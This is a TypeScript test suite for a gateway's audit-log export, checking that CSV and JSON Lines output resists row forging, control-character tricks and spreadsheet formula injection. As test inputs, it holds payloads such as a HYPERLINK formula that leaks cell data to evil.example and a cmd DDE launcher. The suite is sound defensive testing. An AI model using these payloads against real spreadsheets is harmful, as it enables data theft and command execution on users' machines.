import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { CSV_COLUMNS, CSV_HEADER, toCsvRow, toJsonLine } from '../../src/audit/export.js';
import type { AuditEvent, AuditEventInput } from '../../src/events/types.js';
import { EXPORT_PAGE, exportPages } from '../../src/server/routes/audit.js';
import { runCli, secretEnv } from '../cli/run-cli.js';
import { startGateway, type TestGateway } from '../support/gateway.js';

/**
 * A strict RFC 4180 reader: rows end in CRLF, a field is quoted or holds no
 * quote, CR, LF or comma, and nothing but a comma or CRLF may follow a
 * closing quote. Anything else throws, so a row that only looks right fails.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const endField = (): boolean => {
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      return true;
    }
    if (text[i] === ',') {
      i += 1;
      return false;
    }
    throw new Error(`offset ${i}: expected a comma or CRLF, found ${JSON.stringify(text[i])}`);
  };
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        field += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && !/[,"\r\n]/.test(text[i])) field += text[i++];
      if (text[i] === '"' || text[i] === '\n' || (text[i] === '\r' && text[i + 1] !== '\n')) {
        throw new Error(`offset ${i}: ${JSON.stringify(text[i])} in an unquoted field`);
      }
    }
    row.push(field);
    if (i >= text.length) throw new Error('last row does not end in CRLF');
    endField();
  }
  return rows;
}

/** Independent statement of the escaping rules, code unit by code unit. */
function expectedCell(value: string): string {
  let out = '';
  for (let i = 0; i < value.length; i++) {
    const c = value.charCodeAt(i);
    const high = c >= 0xd800 && c <= 0xdbff;
    const low = c >= 0xdc00 && c <= 0xdfff;
    const paired = (high && i + 1 < value.length && value.charCodeAt(i + 1) >= 0xdc00 && value.charCodeAt(i + 1) <= 0xdfff) || (low && i > 0 && value.charCodeAt(i - 1) >= 0xd800 && value.charCodeAt(i - 1) <= 0xdbff);
    const unsafe =
      (c < 0x20 && c !== 0x09 && c !== 0x0a) ||
      (c >= 0x7f && c <= 0x9f) ||
      c === 0x2028 ||
      c === 0x2029 ||
      (c >= 0x202a && c <= 0x202e) ||
      (c >= 0x2066 && c <= 0x2069) ||
      ((high || low) && !paired);
    out += unsafe ? `\\u${c.toString(16).padStart(4, '0')}` : value[i];
  }
  return FORMULA_CHARS.includes(out[0] ?? '') ? `'${out}` : out;
}

const FORMULA_CHARS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe62', '\ufe63', '\ufe66', '\ufe6b'];
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]/;

/** Strings built to break CSV and line-based formats, mixed with arbitrary code units and code points. */
const nasty = fc.string({
  unit: fc.oneof(
    fc.constantFrom('\r', '\n', '\r\n', '"', ',', "'", '\\', '\u2028', '\u2029', '\u0085', '\u202e', '\u001b', '\ud800', '\udc00', ...FORMULA_CHARS),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
    fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)),
  ),
  maxLength: 40,
});

const eventArb: fc.Arbitrary<AuditEvent> = fc
  .record({
    seq: fc.integer({ min: 1, max: 2 ** 40 }),
    text: fc.option(nasty, { nil: undefined }),
    rule: fc.option(nasty, { nil: undefined }),
    sqlstate: fc.option(nasty, { nil: undefined }),
    rows: fc.option(fc.oneof(fc.integer(), fc.constant(null)), { nil: undefined }),
    id: fc.option(nasty, { nil: undefined }),
    extra: fc.dictionary(nasty, fc.jsonValue(), { maxKeys: 4 }),
    sessionId: fc.option(nasty, { nil: undefined }),
    resource: fc.option(nasty, { nil: undefined }),
    principal: fc.option(fc.record({ issuer: nasty, subject: nasty, kind: fc.constantFrom('person' as const, 'machine' as const) }), { nil: undefined }),
  })
  .map(({ seq, text, rule, sqlstate, rows, id, extra, sessionId, resource, principal }) => {
    const data: Record<string, unknown> = { ...extra };
    for (const [k, v] of Object.entries({ text, rule, sqlstate, rows, id })) if (v !== undefined) data[k] = v;
    return { seq, chain: 'main', prevHash: '0'.repeat(64), hash: 'f'.repeat(64), type: 'statement.started', time: '2026-01-01T00:00:00.000Z', sessionId, principal, resource, data };
  });

function event(data: Record<string, unknown>, over: Partial<AuditEvent> = {}): AuditEvent {
  return { seq: 7, chain: 'main', prevHash: '0'.repeat(64), hash: 'f'.repeat(64), type: 'statement.started', time: '2026-01-01T00:00:00.000Z', data, ...over };
}

function csvCells(e: AuditEvent): Record<string, string> {
  const rows = parseCsv(CSV_HEADER + toCsvRow(e));
  expect(rows).toHaveLength(2);
  expect(rows[1]).toHaveLength(CSV_COLUMNS.length);
  return Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1][i]]));
}

describe('CSV rows', () => {
  it('the test parser is strict: it refuses rows that split or forge fields', () => {
    for (const bad of ['a,b\n', 'a\r\nb', '"a"b\r\n', 'a"b\r\n', '"open\r\n', 'a\rb\r\n']) expect(() => parseCsv(bad)).toThrow();
    expect(parseCsv('"a ""q"", b",\r\n"x\r\ny",z\r\n')).toEqual([['a "q", b', ''], ['x\r\ny', 'z']]);
  });

  it('any event is exactly one row of every column, and every cell is what the escaping rules say', () => {
    fc.assert(
      fc.property(eventArb, (e) => {
        const cells = csvCells(e);
        const d = e.data as Record<string, unknown>;
        const lifted = (v: unknown): string => (typeof v === 'string' || typeof v === 'number' ? expectedCell(String(v)) : '');
        expect(cells.seq).toBe(String(e.seq));
        expect(cells.session_id).toBe(expectedCell(e.sessionId ?? ''));
        expect(cells.issuer).toBe(expectedCell(e.principal?.issuer ?? ''));
        expect(cells.subject).toBe(expectedCell(e.principal?.subject ?? ''));
        expect(cells.resource).toBe(expectedCell(e.resource ?? ''));
        expect(cells.statement).toBe(lifted(d.text));
        expect(cells.rule).toBe(lifted(d.rule));
        expect(cells.sqlstate).toBe(lifted(d.sqlstate));
        expect(cells.rows).toBe(lifted(d.rows));
        expect(cells.request_id).toBe(lifted(d.id));
        for (const cell of Object.values(cells)) {
          expect(FORMULA_CHARS).not.toContain(cell[0]);
          expect(cell).not.toMatch(CONTROL);
          expect(cell).not.toContain('\r');
        }
        // The rest of data survives: the \uXXXX escapes the CSV adds are JSON escapes of the same characters.
        const rest = Object.fromEntries(Object.entries(d).filter(([k, v]) => !(['text', 'rule', 'sqlstate', 'rows', 'id'].includes(k) && (typeof v === 'string' || typeof v === 'number'))));
        expect(cells.data === '' ? {} : JSON.parse(cells.data)).toEqual(JSON.parse(JSON.stringify(rest)));
      }),
      { numRuns: 500 },
    );
  });

  it('a file of many events parses into one row per event', () => {
    fc.assert(
      fc.property(fc.array(eventArb, { maxLength: 20 }), (events) => {
        const rows = parseCsv(CSV_HEADER + events.map(toCsvRow).join(''));
        expect(rows).toHaveLength(events.length + 1);
        expect(rows[0]).toEqual([...CSV_COLUMNS]);
        expect(rows.slice(1).map((r) => r[0])).toEqual(events.map((e) => String(e.seq)));
      }),
      { numRuns: 200 },
    );
  });

  it('statement text cannot forge a row or a field', () => {
    const cells = csvCells(event({ text: 'x\n2026-01-01,main,forged\r\n9,"main",x' }));
    expect(cells.statement).toBe('x\n2026-01-01,main,forged\\u000d\n9,"main",x');
    expect(cells.data).toBe('');
    const quoted = csvCells(event({ text: 'a","b', rule: '",,,"' }));
    expect(quoted.statement).toBe('a","b');
    expect(quoted.rule).toBe('",,,"');
  });

  it('formula look-alikes get a leading apostrophe, in every column', () => {
    const cases: Array<[string, string]> = [
      ['=HYPERLINK("https://evil.example/?d="&A1,"click")', `'=HYPERLINK("https://evil.example/?d="&A1,"click")`],
      ['@SUM(1)', `'@SUM(1)`],
      ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
      ['-2+3', `'-2+3`],
      ['\t=1', `'\t=1`],
      ['＝1+1', `'＝1+1`],
      ['＋1', `'＋1`],
      ['－1', `'－1`],
      ['＠SUM(1)', `'＠SUM(1)`],
      ['\r=1', '\\u000d=1'],
      ['select 1', 'select 1'],
      ["'=1", "'=1"],
    ];
    for (const [input, cell] of cases) {
      const c = csvCells(event({ text: input, rule: input, sqlstate: input, id: input }, { resource: input, sessionId: input, principal: { issuer: input, subject: input, kind: 'person' } }));
      for (const col of ['statement', 'rule', 'sqlstate', 'request_id', 'resource', 'session_id', 'issuer', 'subject'] as const) expect(c[col], `${col} for ${JSON.stringify(input)}`).toBe(cell);
    }
    expect(csvCells(event({ rows: -5 })).rows).toBe("'-5");
  });

  it('terminal escapes and other control characters are written as \\uXXXX', () => {
    expect(csvCells(event({ text: '\u001b[2J\u0007\u0000x\u0085\u2028\u202e' })).statement).toBe('\\u001b[2J\\u0007\\u0000x\\u0085\\u2028\\u202e');
    expect(csvCells(event({ text: 'tab\tand\nnewline stay' })).statement).toBe('tab\tand\nnewline stay');
  });

  it('non-scalar values of lifted keys stay in data', () => {
    const c = csvCells(event({ text: { nested: true }, rows: null, id: 'req-1', tags: ['SELECT 1'] }));
    expect(c.statement).toBe('');
    expect(c.rows).toBe('');
    expect(c.request_id).toBe('req-1');
    expect(JSON.parse(c.data)).toEqual({ text: { nested: true }, rows: null, tags: ['SELECT 1'] });
  });
});

describe('JSON Lines', () => {
  it('any event is one line, and JSON.parse gives the event back', () => {
    fc.assert(
      fc.property(eventArb, (e) => {
        const line = toJsonLine(e);
        expect(line.endsWith('\n')).toBe(true);
        expect(line.indexOf('\n')).toBe(line.length - 1);
        expect(line.slice(0, -1)).not.toMatch(/[\u0000-\u001f\u2028\u2029]/);
        expect(JSON.parse(line)).toEqual(JSON.parse(JSON.stringify(e)));
      }),
      { numRuns: 500 },
    );
  });

  it('escapes newlines (JSON.stringify does) and U+2028/U+2029 (it does not)', () => {
    expect(JSON.stringify('a\nb\rc')).toBe('"a\\nb\\rc"');
    expect(JSON.stringify('\u2028')).toBe('"\u2028"');
    const e = event({ text: 'x\n2026-01-01,main,forged\u2028\u2029\u001b[2J' });
    const line = toJsonLine(e);
    expect(line).toContain('x\\n2026-01-01,main,forged\\u2028\\u2029\\u001b[2J');
    expect(line.split('\n')).toEqual([line.slice(0, -1), '']);
    expect(JSON.parse(line)).toEqual(e);
  });
});

describe('GET /api/v1/audit/export', () => {
  let t: TestGateway;
  let auditor: string;
  let scratch: string;
  /** Seqs of the events appended here, by resource. */
  const seqs: Record<'exp-a' | 'exp-b', number[]> = { 'exp-a': [], 'exp-b': [] };
  const TOTAL = 3500;
  const ADVERSARIAL = ['x\n2026-01-01,main,forged', '=HYPERLINK("https://evil.example","x")', '@SUM(1)', '\u001b[2J', 'a\u2028b'];

  beforeAll(async () => {
    t = await startGateway();
    auditor = await t.token('carol', ['auditor']);
    scratch = mkdtempSync(join(tmpdir(), 'sluice-export-'));
    const inputs: AuditEventInput[] = [];
    for (let i = 0; i < TOTAL; i++) {
      inputs.push({
        type: i % 2 ? 'statement.completed' : 'statement.started',
        time: new Date(Date.UTC(2026, 0, 1, 0, 0, 0, i)).toISOString(),
        sessionId: `exp-session-${i % 5}`,
        principal: { issuer: 'https://idp.example.com', subject: 'exporter', kind: 'person' },
        resource: i % 7 === 0 ? 'exp-b' : 'exp-a',
        data: i % 2 ? { statement: i, rows: i, tags: ['SELECT 1'], durationMs: 1 } : { statement: i, protocol: 'simple', text: i < ADVERSARIAL.length * 2 ? ADVERSARIAL[i / 2] : `select ${i}` },
      });
    }
    for (let i = 0; i < inputs.length; i += 500) {
      for (const e of await t.gw.store.append(inputs.slice(i, i + 500))) seqs[e.resource as 'exp-a' | 'exp-b'].push(e.seq);
    }
  });
  afterAll(async () => {
    await t?.stop();
    if (scratch) rmSync(scratch, { recursive: true, force: true });
  });

  async function download(query: Record<string, string>, token = auditor): Promise<{ status: number; text: string; headers: Headers }> {
    const res = await fetch(`${t.httpUrl}/api/v1/audit/export?${new URLSearchParams(query)}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
    return { status: res.status, text: await res.text(), headers: res.headers };
  }

  function jsonl(text: string): AuditEvent[] {
    expect(text.endsWith('\n')).toBe(true);
    return text.slice(0, -1).split('\n').map((l) => JSON.parse(l) as AuditEvent);
  }

  it('exports every matching event as JSON Lines, in seq order, none skipped or repeated', async () => {
    const r = await download({ format: 'jsonl', subject: 'exporter', resource: 'exp-a' });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="sluice-audit-\d{8}T\d{6}Z\.jsonl"$/);
    expect(r.headers.get('cache-control')).toBe('no-store');
    const events = jsonl(r.text);
    expect(seqs['exp-a']).toHaveLength(3000);
    expect(events.map((e) => e.seq)).toEqual(seqs['exp-a']);
    expect(events.every((e) => e.resource === 'exp-a' && e.principal?.subject === 'exporter')).toBe(true);
    expect(events.find((e) => e.seq === seqs['exp-a'][0])).toEqual(t.gw.store.query({ afterSeq: seqs['exp-a'][0] - 1, limit: 1 })[0]);
  });

  it('exports CSV with the same events, one row each, adversarial text kept inside its cell', async () => {
    const r = await download({ format: 'csv', subject: 'exporter', type: 'statement.started,statement.completed' });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="sluice-audit-\d{8}T\d{6}Z\.csv"$/);
    const rows = parseCsv(r.text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(TOTAL + 1);
    expect(rows.every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
    const all = [...seqs['exp-a'], ...seqs['exp-b']].sort((a, b) => a - b);
    expect(rows.slice(1).map((row) => Number(row[0]))).toEqual(all);
    const statements = rows.slice(1).map((row) => row[CSV_COLUMNS.indexOf('statement')]);
    expect(statements.slice(0, 10).filter(Boolean)).toEqual(['x\n2026-01-01,main,forged', `'=HYPERLINK("https://evil.example","x")`, `'@SUM(1)`, '\\u001b[2J', 'a\\u2028b']);
  });

  it('pages by seq in either order and honours after_seq/before_seq and other filters', async () => {
    const desc = jsonl((await download({ format: 'jsonl', resource: 'exp-b', order: 'desc' })).text);
    expect(desc.map((e) => e.seq)).toEqual([...seqs['exp-b']].reverse());
    const mid = seqs['exp-a'][1200];
    const after = jsonl((await download({ format: 'jsonl', resource: 'exp-a', after_seq: String(mid) })).text);
    expect(after.map((e) => e.seq)).toEqual(seqs['exp-a'].slice(1201));
    const session = jsonl((await download({ format: 'jsonl', session_id: 'exp-session-3', type: 'statement.completed' })).text);
    expect(session).toHaveLength(350);
    expect(session.every((e) => e.sessionId === 'exp-session-3' && e.type === 'statement.completed')).toBe(true);
    const none = await download({ format: 'csv', resource: 'nothing-here' });
    expect(none.text).toBe(CSV_HEADER);
  });

  it('reads the store in pages of 1000 and leaves out events written after the export began', async () => {
    const pages = exportPages(t.gw.store, { subject: 'exporter' });
    const sizes = [(pages.next().value as AuditEvent[]).length];
    const late = await t.gw.store.append([{ type: 'statement.started', time: new Date().toISOString(), principal: { issuer: 'https://idp.example.com', subject: 'exporter', kind: 'person' }, resource: 'exp-late', data: {} }]);
    for (const page of pages) sizes.push(page.length);
    expect(sizes).toEqual([EXPORT_PAGE, EXPORT_PAGE, EXPORT_PAGE, 500]);
    const after = jsonl((await download({ format: 'jsonl', resource: 'exp-late' })).text);
    expect(after.map((e) => e.seq)).toEqual([late[0].seq]);
  });

  it('refuses callers without audit:read, and bad parameters', async () => {
    expect((await download({ format: 'csv' }, '')).status).toBe(401);
    const bob = await download({ format: 'csv' }, await t.token('bob', ['dev']));
    expect(bob.status).toBe(403);
    expect(JSON.parse(bob.text).error.code).toBe('permission_denied');
    const bad: Array<[Record<string, string>, string]> = [
      [{ format: 'xlsx' }, 'format: expected jsonl or csv'],
      [{ format: 'csv', limit: '5' }, 'limit: an export holds every matching event; narrow it with filters, after_seq or before_seq'],
      [{ format: 'csv', type: 'statement.nope' }, 'type: unknown event type statement.nope'],
      [{ format: 'csv', since: 'yesterday' }, 'since: expected an ISO-8601 time'],
    ];
    for (const [query, message] of bad) {
      const r = await download(query);
      expect(r.status).toBe(400);
      expect(JSON.parse(r.text).error.message).toContain(message);
    }
    const twice = await fetch(`${t.httpUrl}/api/v1/audit/export?format=csv&format=jsonl`, { headers: { authorization: `Bearer ${auditor}` } });
    expect(twice.status).toBe(400);
  });

  describe('sluice audit export', () => {
    vi.setConfig({ testTimeout: 90_000 });
    const as = (subject: string, groups: string): string[] => ['--url', t.httpUrl, '--config', t.configFile, '--as', subject, '--as-groups', groups];

    it('writes the export to --out (mode 0600) or to standard output', async () => {
      const out = join(scratch, 'audit.csv');
      const r = await runCli(['audit', 'export', '--format', 'csv', '--resource', 'exp-b', '--out', out, ...as('carol', 'auditor')], secretEnv());
      expect(r.stderr).toBe('');
      expect(r.code).toBe(0);
      expect(statSync(out).mode & 0o777).toBe(0o600);
      const rows = parseCsv(readFileSync(out, 'utf8'));
      expect(rows.slice(1).map((row) => Number(row[0]))).toEqual(seqs['exp-b']);
      const stdout = await runCli(['audit', 'export', '--format', 'jsonl', '--resource', 'exp-a', ...as('carol', 'auditor')], secretEnv());
      expect(stdout.code).toBe(0);
      expect(jsonl(stdout.stdout).map((e) => e.seq)).toEqual(seqs['exp-a']);
    });

    it('leaves no file behind when the export is refused', async () => {
      const out = join(scratch, 'refused.csv');
      const r = await runCli(['audit', 'export', '--format', 'csv', '--out', out, ...as('bob', 'dev')], secretEnv());
      expect(r.code).toBe(1);
      expect(r.stderr).toBe('sluice: no policy grants permission audit:read to subject bob (groups: dev) [permission_denied]\n');
      expect(existsSync(out)).toBe(false);
      expect(readdirSync(scratch).filter((f) => f.startsWith('refused.csv'))).toEqual([]);
    });
  });
});
